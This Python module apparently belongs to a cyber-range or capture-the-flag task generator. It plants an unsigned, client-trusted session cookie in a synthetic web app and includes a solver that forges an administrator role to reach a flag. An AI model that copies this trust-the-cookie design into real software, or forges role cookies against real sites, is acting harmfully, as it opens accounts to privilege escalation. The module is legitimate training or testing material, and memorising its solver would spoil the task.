"""Sessions that the holder can rewrite, because the cookie is neither signed nor random."""

from __future__ import annotations

import binascii
import json
from collections.abc import Mapping

from openrange.packs.webapp.choices import ADMINISTRATOR
from openrange.packs.webapp.doors.session import COOKIE, Holder, Session
from openrange.packs.webapp.hiding import Hiding
from openrange.worlds.flag import find_flag

TYPE_CHECKING = False
if TYPE_CHECKING:
    from openrange.packs.webapp.world import Link, World
    from openrange.worlds.draw import Draw
    from openrange.worlds.visitor import Visitor

FOR_MODELS = "the session cookie says in plain, unsigned JSON who its holder is and in which role"
FOR_PEOPLE = "with another role written into the cookie, the console opens"

MAX_COOKIE = 1_000


def draw(draw: Draw) -> Mapping[str, str]:
    """Nothing."""
    return {}


def place(hiding: Hiding, value: str, link: Link) -> None:
    """Put it onto the administrators' console."""
    hiding.console = value


class Unsigned(Session):
    """Keeps the session in the cookie, as base64 of a JSON object, and believes it."""

    def open(self, holder: Holder) -> str:
        """Write the session into a cookie."""
        return _encode({"account": holder.login, "role": holder.role})

    def read(self, cookie: str) -> Holder | None:
        """Believe the cookie. This is the planted weakness."""
        fields = _decode(cookie)
        login, role = fields.get("account"), fields.get("role")
        if isinstance(login, str) and isinstance(role, str):
            return Holder(login, role)
        return None

    def close(self, cookie: str) -> None:
        """Do nothing: what the portal does not keep, it cannot end."""


def weaken(link: Link) -> type[Session]:
    """Sessions in plain cookies."""
    return Unsigned


def solve(visitor: Visitor, world: World, link: Link, gained: tuple[str, ...]) -> str | None:
    """Write another role into the cookie, and open the console with it."""
    given = next((each.value or "" for each in visitor.cookies if each.name == COOKIE), "")
    fields = {"account": world["agent"]["login"], **_decode(given), "role": ADMINISTRATOR}
    forged = {"Cookie": f"{COOKIE}={_encode(fields)}"}
    return find_flag(visitor.get(f"/{world['doors']['console']}", headers=forged).body)


def visit(visitor: Visitor, world: World, link: Link) -> None:
    """Try the console with the session that signing in gave."""
    visitor.get(f"/{world['doors']['console']}")


def _encode(fields: Mapping[str, object]) -> str:
    raw = json.dumps(fields, separators=(",", ":")).encode()
    text = binascii.b2a_base64(raw, newline=False).decode().rstrip("=")
    return text.replace("+", "-").replace("/", "_")


def _decode(cookie: str) -> dict[str, object]:
    """The object in a cookie, padded or not, in either alphabet; empty if there is none."""
    text = cookie[:MAX_COOKIE].rstrip("=").replace("-", "+").replace("_", "/")
    try:
        fields = json.loads(binascii.a2b_base64(text + "=" * (-len(text) % 4)))
    except (ValueError, RecursionError):
        return {}
    return fields if isinstance(fields, dict) else {}
